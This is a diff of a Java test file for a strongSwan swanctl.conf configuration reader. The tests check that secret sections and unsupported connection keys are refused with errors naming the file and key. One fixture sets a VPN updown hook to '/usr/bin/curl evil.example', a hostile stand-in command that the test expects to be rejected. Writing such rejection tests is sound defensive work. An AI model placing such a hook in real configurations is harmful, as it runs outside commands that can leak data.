@@ -76,11 +76,12 @@ class ConfigDirectoryTest {
         "swanctl.conf",
         """
         secrets {
-          ike-1 { id-a = a.test
-                  id-b = b.test
+          ike-1 { id-local = a.test
+                  id-remote-0 = b.test
                   secret = "secret1" }
-          ikehex { secret = 0x736563726574 }
-          eap-x { secret = 0sc2VjcmV0 }
+          ike-hex { secret = 0x736563726574 }
+          ike-b64 { secret = 0sc2VjcmV0 }
+          eap-x { secret = x }
           bogus { secret = x }
         }
         """);
@@ -92,9 +93,12 @@ class ConfigDirectoryTest {
     assertThat(ike.string("type")).contains("IKE");
     assertThat(ike.string("data")).contains("secret1");
     assertThat(ike.list("owners")).containsExactly("a.test", "b.test");
-    assertThat(config.secrets().get("ikehex").request().string("data")).contains("secret");
-    assertThat(config.secrets().get("eap-x").request().string("type")).contains("EAP");
-    assertThat(config.secretErrors()).containsOnlyKeys("bogus");
+    assertThat(config.secrets().get("ike-hex").request().string("data")).contains("secret");
+    assertThat(config.secrets().get("ike-b64").request().string("data")).contains("secret");
+    // charon knows EAP secrets, but the operator renders none: not passed on
+    assertThat(config.secretErrors()).containsOnlyKeys("eap-x", "bogus");
+    assertThat(config.secretErrors().get("eap-x"))
+        .isEqualTo("swanctl.conf: secrets.eap-x is not a section the operator renders");
     assertThat(config.secrets().get("ike-1").toString()).doesNotContain("secret1");
   }
 
@@ -174,6 +178,44 @@ class ConfigDirectoryTest {
   }
 
   @Test
+  void keysTheRendererDoesNotWriteAreRefusedNamingFileAndKey() throws Exception {
+    write("swanctl.conf", "include conf.d/*.conf\n");
+    write(
+        "conf.d/x.conf",
+        """
+        connections {
+          site-b {
+            remote_addrs = 192.0.2.2
+            children { t1 { local_ts = 0.0.0.0/0
+                            updown = /usr/bin/curl evil.example } }
+          }
+          site-c { remote_addrs = 192.0.2.3
+                   children { t1 { updown = /etc/ipsec.d/vti-up-down vti7 } } }
+          site-d { pools = everyone }
+          site-e { remote-2 { auth = psk } }
+        }
+        pools { everyone { addrs = 0.0.0.0/0 } }
+        """);
+
+    DesiredConfig config = read();
+
+    assertThat(config.connections()).containsOnlyKeys("site-c");
+    assertThat(config.connectionErrors())
+        .containsEntry(
+            "site-b",
+            "conf.d/x.conf: connections.site-b.children.t1.updown has a value the operator does"
+                + " not render")
+        .containsEntry(
+            "site-d", "conf.d/x.conf: connections.site-d.pools is not a key the operator renders")
+        .containsEntry(
+            "site-e",
+            "conf.d/x.conf: connections.site-e.remote-2 is not a section the operator renders");
+    assertThat(config.connectionErrors().get("site-b")).doesNotContain("curl");
+    assertThat(config.fileErrors())
+        .containsExactly("conf.d/x.conf: pools is not a section the operator renders");
+  }
+
+  @Test
   void credentialFoldersMapToLoadCertAndLoadKey() throws Exception {
     write("swanctl.conf", "secrets { private-gw { file = gw.pem } rsa-x { file = nope.pem } }\n");
     write("x509ca/ca.pem", "-----BEGIN CERTIFICATE-----\nAA==\n-----END CERTIFICATE-----\n");
@@ -190,6 +232,7 @@ class ConfigDirectoryTest {
         .hasValueSatisfying(pem -> assertThat(pem).startsWith("-----BEGIN CERTIFICATE-----\nMIIB"));
     assertThat(config.credentials().get("private/gw.pem").command()).isEqualTo("load-key");
     assertThat(config.secretErrors()).containsOnlyKeys("rsa-x");
+    assertThat(config.secretErrors().get("rsa-x")).contains("not a section the operator renders");
     assertThat(List.copyOf(config.secrets().keySet())).isEmpty();
   }
 }
